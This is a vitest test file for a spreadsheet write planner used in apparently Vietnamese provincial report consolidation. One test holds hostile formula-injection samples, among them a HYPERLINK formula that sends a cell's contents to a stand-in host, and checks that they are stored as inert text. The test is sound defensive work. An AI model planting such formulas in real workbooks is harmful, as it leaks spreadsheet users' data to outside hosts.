import { describe, expect, it } from 'vitest';
import { demoProvinceConsolidations } from '../../../shared/demo/province';
import { parsePeriod } from '../../../shared/periods';
import { getTemplate } from '../../../shared/templates';
import { METADATA_SHEET, buildTemplateSheet, consolidatedWorkbook, parseMetadata, sheetMetadataFor } from '../../../shared/workbook';
import { MAX_BATCH_BYTES, batches, opSize, planSheet, planWrite, rectangles } from './plan';

describe('planning writes', () => {
  it('joins cells of one style into rectangles', () => {
    const S = 'input' as const;
    const D = 'derived' as const;
    expect(
      rectangles([
        [S, S, D],
        [S, S, D],
        [null, S, S],
      ]),
    ).toEqual([
      { row: 0, col: 0, rows: 2, cols: 2, style: S },
      { row: 0, col: 2, rows: 2, cols: 1, style: D },
      { row: 2, col: 1, rows: 1, cols: 2, style: S },
    ]);
  });

  it('writes a template as whole blocks, formats before values', () => {
    const ops = planSheet(buildTemplateSheet(getTemplate('BM03')!));
    const kinds = ops.map((o) => o.op);
    expect(kinds[0]).toBe('addSheet');
    expect(kinds.filter((k) => k === 'formulas')).toHaveLength(1);
    expect(kinds.indexOf('numberFormat')).toBeLessThan(kinds.indexOf('values'));
    expect(kinds.indexOf('values')).toBeLessThan(kinds.indexOf('formulas'));
    // Far fewer style operations than cells.
    expect(kinds.filter((k) => k === 'style').length).toBeLessThan(120);
    const formulas = ops.find((o) => o.op === 'formulas')!;
    expect(formulas.op === 'formulas' && formulas.matrix.flat().filter((v) => typeof v === 'string' && v.startsWith('=IF(')).length).toBe(9);
  });

  it('writes every template formula into a cell not formatted as text, so Excel computes it (BM01’s Đạt / Chưa đạt)', () => {
    const model = buildTemplateSheet(getTemplate('BM01')!);
    const ops = planSheet(model);
    const formats = new Map<string, string>();
    for (const op of ops) if (op.op === 'numberFormat') op.matrix.forEach((line, r) => line.forEach((f, c) => f && formats.set(`${op.row + r},${op.col + c}`, f)));
    const formulaCells = model.cells.filter((c) => c.formula !== undefined);
    expect(formulaCells.some((c) => c.formula!.includes('Đạt'))).toBe(true);
    for (const c of formulaCells) expect(formats.get(`${c.row},${c.col}`), `${c.row},${c.col}`).not.toBe('@');
  });

  it('writes user text only as values into text-formatted cells, and only the template’s formulas as formulas', () => {
    const hostile = ['=HYPERLINK("http://x.example/"&A1,"Xem")', '+1+1', '-A1', '@SUM(A1)'];
    const ops = planSheet({ ...buildTemplateSheet(getTemplate('BM03')!), cells: hostile.map((value, i) => ({ row: i, col: 0, value })) });
    const values = ops.find((o) => o.op === 'values');
    const formats = ops.find((o) => o.op === 'numberFormat');
    expect(values?.op === 'values' && values.matrix.map((r) => r[0])).toEqual(hostile);
    expect(formats?.op === 'numberFormat' && formats.matrix.map((r) => r[0])).toEqual(hostile.map(() => '@'));
    expect(ops.some((o) => o.op === 'formulas')).toBe(false);
  });

  it('cuts a whole province’s consolidated workbook into batches under 5 MB', () => {
    const period = parsePeriod('2024')!;
    const consolidations = demoProvinceConsolidations('2024', ['BM01', 'BM03', 'BM07'].map((id) => getTemplate(id)!));
    const model = consolidatedWorkbook({ province: 'Đắk Lắk', period, generatedAt: '2024-12-25T00:00:00Z', engineVersion: '1.0.0', consolidations });
    const ops = model.sheets.flatMap(planSheet);
    const total = ops.reduce((n, o) => n + opSize(o), 0);
    // A limit of a third of the payload forces at least three batches, each under it, nothing lost or reordered.
    const limit = Math.ceil(total / 3);
    const parts = batches(ops, limit);
    expect(parts.length).toBeGreaterThanOrEqual(3);
    expect(parts.flat()).toEqual(ops);
    for (const part of parts) expect(part.reduce((n, o) => n + opSize(o), 0)).toBeLessThanOrEqual(limit);
    expect(batches(ops).every((part) => part.reduce((n, o) => n + opSize(o), 0) <= MAX_BATCH_BYTES)).toBe(true);
    // Row bands keep every single operation far below a batch.
    expect(Math.max(...ops.map(opSize))).toBeLessThan(limit);
  });
});

describe('planning a write into a workbook', () => {
  const bm03 = getTemplate('BM03')!;
  const bm04 = getTemplate('BM04')!;
  const empty = { sheets: new Set(['Sheet1']), recorded: [], names: new Set<string>() };
  const holdingBoth = {
    sheets: new Set(['BM03', 'BM04', METADATA_SHEET]),
    recorded: [sheetMetadataFor(bm03, { period: '2024-Q1' }), sheetMetadataFor(bm04, { period: '2024-Q1' })],
    names: new Set(['BM03_TT01_KQ', 'BM04_X']),
  };

  it('adds the sheet and its metadata to a new workbook, and shows the sheet', () => {
    const ops = planWrite(empty, { sheets: [buildTemplateSheet(bm03)], metadata: [sheetMetadataFor(bm03)] });
    expect(ops.filter((o) => o.op === 'addSheet').map((o) => o.op === 'addSheet' && o.sheet)).toEqual(['BM03', METADATA_SHEET]);
    expect(ops.some((o) => o.op === 'deleteSheet' || o.op === 'deleteName')).toBe(false);
    expect(ops.at(-1)).toEqual({ op: 'activate', sheet: 'BM03' });
  });

  it('refuses a sheet the workbook has, unless asked to replace it', () => {
    expect(() => planWrite(holdingBoth, { sheets: [buildTemplateSheet(bm03)], metadata: [] })).toThrow('Bảng tính đã có trang "BM03".');
  });

  it('replacing one sheet drops its old names and keeps the metadata of the others', () => {
    const ops = planWrite(holdingBoth, { sheets: [buildTemplateSheet(bm03)], metadata: [sheetMetadataFor(bm03, { period: '2024-H1' })], replace: true });
    expect(ops.filter((o) => o.op === 'deleteSheet').map((o) => o.op === 'deleteSheet' && o.sheet)).toEqual(['BM03', METADATA_SHEET]);
    expect(ops.filter((o) => o.op === 'deleteName').map((o) => o.op === 'deleteName' && o.name)).toEqual(['BM03_TT01_KQ']);
    const meta = ops.find((o) => o.op === 'values' && o.sheet === METADATA_SHEET);
    const recorded = meta?.op === 'values' ? parseMetadata(meta.matrix) : [];
    expect(recorded.map((m) => [m.sheet, m.period])).toEqual([
      ['BM04', '2024-Q1'],
      ['BM03', '2024-H1'],
    ]);
  });

  it('removes the sheets of an earlier pull the new one does not rewrite, after writing the new ones, and forgets their records', () => {
    const [bm01, bm03] = demoProvinceConsolidations('2024', [getTemplate('BM01')!, getTemplate('BM03')!], 40);
    const model = consolidatedWorkbook({ province: 'Đắk Lắk', period: parsePeriod('2024')!, generatedAt: '2024-12-31T00:00:00Z', engineVersion: '1.0.0', consolidations: [bm03!] });
    const state = {
      sheets: new Set(['Sheet1', 'Tổng hợp', 'TH_BM01', 'TH_BM03', METADATA_SHEET]),
      recorded: [{ sheet: 'TH_BM01', template: 'BM01', version: bm01!.template.version, period: '2024-H1' }, { sheet: 'TH_BM03', template: 'BM03', version: bm03!.template.version, period: '2024-H1' }],
      names: new Set<string>(),
    };
    const visible = model.sheets.filter((s) => s.visibility !== 'veryHidden');
    const ops = planWrite(state, { sheets: visible, metadata: model.metadata, replace: true, remove: ['Tổng hợp', 'TH_BM01', 'TH_BM03', 'Không có'] });
    const deletes = ops.flatMap((o, i) => (o.op === 'deleteSheet' ? [[o.sheet, i] as const] : []));
    expect(deletes.map(([s]) => s)).toEqual(['Tổng hợp', 'TH_BM03', 'TH_BM01', METADATA_SHEET]);
    // The stale sheet goes after every new sheet is in place.
    const lastAdd = ops.map((o) => o.op).lastIndexOf('addSheet');
    expect(deletes.find(([s]) => s === 'TH_BM01')![1]).toBeGreaterThan(ops.findIndex((o) => o.op === 'addSheet' && o.sheet === 'Cảnh báo'));
    expect(lastAdd).toBeGreaterThan(0);
    const metadataSheet = ops.filter((o) => o.op === 'values' && o.sheet === METADATA_SHEET).flatMap((o) => (o.op === 'values' ? o.matrix : []));
    expect(parseMetadata(metadataSheet).map((m) => [m.sheet, m.period])).toEqual([['TH_BM03', '2024']]);
  });
});
